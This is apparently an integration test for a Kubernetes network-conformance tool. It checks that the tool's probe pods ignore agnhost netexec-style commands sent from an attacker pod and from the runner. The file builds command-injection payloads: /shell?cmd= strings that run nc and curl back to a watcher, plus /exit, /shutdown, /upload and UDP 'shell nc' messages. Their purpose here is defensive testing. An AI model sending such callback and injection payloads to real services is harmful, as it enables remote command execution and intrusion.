// Sealed probes: nothing a run deploys answers a command from the network. During a run, a pod in
// another namespace and the runner (outside, on the node network) send every port every probe
// listens on — pod probes, host-network probes, the ports suite's listener pods, the nodeport
// backend, every Service VIP and NodePort — what agnhost netexec would obey: /shell?cmd=…,
// /upload, /dial?host=…, /exit, /shutdown, and UDP payloads netexec takes as commands. The
// commands would connect back to a watcher the test runs on the runner's address; it must never
// hear from a probe. Every probe keeps its restart count at 0, and the run still passes.
import dgram from 'node:dgram';
import http from 'node:http';
import net from 'node:net';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runnerAddressFor } from '../../helpers/check/drivers/outside.ts';
import { kubeconfig, kubectl, objectsLeft, requireLab, runIdOf, startCli } from './cli-helpers.ts';

const up = requireLab();
const ATTACKER_NS = `netconform-attacker-${process.pid}`;

interface Target {
  host: string;
  port: number;
  protocol: 'TCP' | 'UDP';
  what: string;
  /** The runner reaches node addresses only (pod and Service ranges are blackholed on this machine). */
  fromRunner: boolean;
}

/** Every socket the run's objects listen on, read from the API: pods (their container ports), Services (VIPs, NodePorts). */
function targetsOf(namespace: string, nodeIPs: string[]): Target[] {
  const pods = JSON.parse(kubectl('get', 'pods', '-n', namespace, '-o', 'json')) as {
    items: { metadata: { name: string }; spec: { hostNetwork?: boolean; containers: { ports?: { containerPort: number; protocol?: string }[] }[] }; status: { podIP?: string; hostIP?: string } }[];
  };
  const targets: Target[] = [];
  for (const p of pods.items) {
    const ip = p.spec.hostNetwork ? p.status.hostIP : p.status.podIP;
    if (!ip) continue;
    for (const c of p.spec.containers)
      for (const port of c.ports ?? []) {
        const protocol = (port.protocol ?? 'TCP') as 'TCP' | 'UDP';
        targets.push({ host: ip, port: port.containerPort, protocol, what: `${p.metadata.name} ${port.containerPort}/${protocol}`, fromRunner: Boolean(p.spec.hostNetwork) });
      }
  }
  const services = JSON.parse(kubectl('get', 'services', '-n', namespace, '-o', 'json')) as {
    items: { metadata: { name: string }; spec: { clusterIP?: string; ports: { port: number; nodePort?: number; protocol?: string }[] }; status?: { loadBalancer?: { ingress?: { ip?: string }[] } } }[];
  };
  for (const s of services.items)
    for (const port of s.spec.ports) {
      const protocol = (port.protocol ?? 'TCP') as 'TCP' | 'UDP';
      if (s.spec.clusterIP && s.spec.clusterIP !== 'None')
        targets.push({ host: s.spec.clusterIP, port: port.port, protocol, what: `service/${s.metadata.name} ${port.port}/${protocol}`, fromRunner: false });
      if (port.nodePort) for (const ip of nodeIPs) targets.push({ host: ip, port: port.nodePort, protocol, what: `nodeport ${s.metadata.name} ${ip}:${port.nodePort}/${protocol}`, fromRunner: true });
      for (const ingress of s.status?.loadBalancer?.ingress ?? [])
        if (ingress.ip) targets.push({ host: ingress.ip, port: port.port, protocol, what: `loadbalancer ${ingress.ip}:${port.port}/${protocol}`, fromRunner: true });
    }
  return targets;
}

/** What netexec would obey, aimed back at the watcher. */
function httpAttacks(watcher: { host: string; port: number }): { method: string; path: string; body?: string }[] {
  const back = `nc -w 1 ${watcher.host} ${watcher.port} </dev/null; curl -s -m 1 http://${watcher.host}:${watcher.port}/pwned; touch /tmp/pwned`;
  return [
    { method: 'GET', path: `/shell?cmd=${encodeURIComponent(back)}` },
    { method: 'POST', path: '/shell', body: `shellCommand=${encodeURIComponent(back)}` },
    { method: 'GET', path: `/dial?host=${watcher.host}&port=${watcher.port}&request=hostname&protocol=http&tries=1` },
    { method: 'GET', path: `/dial?host=${watcher.host}&port=${watcher.port}&request=hostname&protocol=udp&tries=1` },
    { method: 'POST', path: '/upload', body: 'file=pwned' },
    { method: 'GET', path: `/redirect?location=http://${watcher.host}:${watcher.port}/` },
    { method: 'GET', path: '/exit?code=3' },
    { method: 'POST', path: '/shutdown' },
  ];
}
const UDP_ATTACKS = ['hostname', 'echo pwned', 'clientip', 'shell nc 1.2.3.4 1', 'exit'];

describe.skipIf(!up)('sealed probes', () => {
  let heard = 0;
  let watcher: { host: string; port: number };
  let tcp: net.Server;
  let udp: dgram.Socket;

  beforeAll(async () => {
    const host = (await runnerAddressFor(kubectl('get', 'nodes', '-o', 'jsonpath={.items[0].status.addresses[0].address}').trim())) ?? '';
    tcp = net.createServer((s) => {
      heard++;
      s.destroy();
    });
    await new Promise<void>((resolve) => tcp.listen(0, host, resolve));
    watcher = { host, port: (tcp.address() as AddressInfo).port };
    udp = dgram.createSocket(net.isIPv6(host) ? 'udp6' : 'udp4').on('message', () => heard++);
    await new Promise<void>((resolve) => udp.bind(watcher.port, host, resolve));
    kubectl('create', 'namespace', ATTACKER_NS);
    kubectl(
      'run',
      'attacker',
      '-n',
      ATTACKER_NS,
      '--image=registry.k8s.io/e2e-test-images/agnhost:2.66.1',
      '--image-pull-policy=IfNotPresent',
      '--restart=Never',
      '--overrides={"spec":{"automountServiceAccountToken":false,"tolerations":[{"operator":"Exists"}]}}',
      '--command',
      '--',
      '/agnhost',
      'pause',
    );
    kubectl('wait', '-n', ATTACKER_NS, '--for=condition=Ready', 'pod/attacker', '--timeout=60s');
  });
  afterAll(async () => {
    kubectl('delete', 'namespace', ATTACKER_NS, '--ignore-not-found', '--wait=false');
    tcp?.close();
    udp?.close();
  });

  test('netexec-style commands to every probe socket, from a pod and from outside, run nothing; no probe restarts; the run passes', async () => {
    // Namespaces of earlier runs (one another test removed may still be terminating) are not this run's.
    const runNamespaces = () =>
      (JSON.parse(kubectl('get', 'namespaces', '-l', 'app.kubernetes.io/managed-by=kube-netconform', '-o', 'json')) as { items: { metadata: { name: string }; status?: { phase?: string } }[] }).items
        .filter((n) => n.metadata.name.startsWith('netconform-') && n.status?.phase !== 'Terminating')
        .map((n) => n.metadata.name);
    const before = new Set(runNamespaces());
    const run = startCli(['run', '--kubeconfig', kubeconfig(), '--keep']);
    const result = { done: false };
    void run.then(() => (result.done = true));
    const nodeIPs = kubectl('get', 'nodes', '-o', 'jsonpath={range .items[*]}{.status.addresses[?(@.type=="InternalIP")].address}{"\\n"}{end}').split('\n').filter(Boolean);
    // Wait for the run's probes, then attack in rounds until the run has ended (at least one whole round).
    let namespace = '';
    const rounds: { answered: number; sent: number }[] = [];
    const deadline = Date.now() + 240_000;
    while (Date.now() < deadline && (!namespace || rounds.length === 0 || !result.done)) {
      namespace ||= runNamespaces().find((n) => !before.has(n)) ?? '';
      const targets = namespace ? targetsOf(namespace, nodeIPs) : [];
      if (targets.length < 10) {
        await new Promise((r) => setTimeout(r, 500)); // polling the API while the run deploys
        continue;
      }
      rounds.push(await attackRound(targets, watcher));
    }
    const finished = await run;
    expect(finished.code, finished.stderr.slice(-3000)).toBe(0);
    const ns = `netconform-${runIdOf(finished)}`;
    expect(namespace).toBe(ns);
    try {
      expect(rounds.length, 'whole attack rounds made during the run').toBeGreaterThan(0);
      // The attacks reached the servers (they answered, with their fixed answers), and none obeyed.
      expect(rounds.every((r) => r.answered > 0)).toBe(true);
      expect(heard, 'connections and datagrams the watcher got from anything the attacks asked for').toBe(0);
      const pods = JSON.parse(kubectl('get', 'pods', '-n', ns, '-o', 'json')) as { items: { metadata: { name: string }; status: { containerStatuses?: { restartCount: number }[] } }[] };
      const restarted = pods.items.filter((p) => (p.status.containerStatuses ?? []).some((c) => c.restartCount > 0)).map((p) => p.metadata.name);
      expect(restarted, 'probes that restarted').toEqual([]);
      expect(pods.items.length).toBeGreaterThan(5);
    } finally {
      const cleanup = await startCli(['cleanup', '--kubeconfig', kubeconfig(), '-n', ns]);
      expect(cleanup.code, cleanup.stderr).toBe(0);
    }
    expect(objectsLeft(runIdOf(finished))).toEqual([]);
  }, 400_000);
});

/** One round: every target, every attack, from the attacker pod (one exec) and from the runner. */
async function attackRound(targets: Target[], watcher: { host: string; port: number }): Promise<{ answered: number; sent: number }> {
  const attacks = httpAttacks(watcher);
  const lines: string[] = [];
  for (const t of targets) {
    const hostPort = `${net.isIPv6(t.host) ? `[${t.host}]` : t.host}:${t.port}`;
    if (t.protocol === 'TCP')
      for (const a of attacks) lines.push(`curl -s -g -m 2 -o /dev/null -w '%{http_code}\\n' -X ${a.method} ${a.body ? `--data '${a.body}' ` : ''}'http://${hostPort}${a.path}' || echo 000`);
    else for (const payload of UDP_ATTACKS) lines.push(`printf '%s' '${payload}' | timeout 2 socat -T 1 - UDP:${hostPort} >/dev/null 2>&1; echo udp`);
  }
  const fromPod = kubectl('exec', '-n', ATTACKER_NS, 'attacker', '--', 'bash', '-c', lines.join('\n'));
  let answered = fromPod.split('\n').filter((l) => /^[1-5]\d\d$/.test(l)).length;
  let sent = lines.length;
  for (const t of targets.filter((x) => x.fromRunner)) {
    for (const a of t.protocol === 'TCP' ? attacks : []) {
      sent++;
      answered += await new Promise<number>((resolve) => {
        const req = http.request({ host: t.host, port: t.port, path: a.path, method: a.method, timeout: 2_000 }, (res) => {
          res.resume();
          res.on('end', () => resolve(1));
        });
        req.on('timeout', () => req.destroy());
        req.on('error', () => resolve(0));
        req.end(a.body);
      });
    }
    if (t.protocol === 'UDP')
      for (const payload of UDP_ATTACKS) {
        sent++;
        const s = dgram.createSocket(net.isIPv6(t.host) ? 'udp6' : 'udp4');
        s.on('error', () => undefined);
        s.send(payload, t.port, t.host, () => s.close());
      }
  }
  return { answered, sent };
}
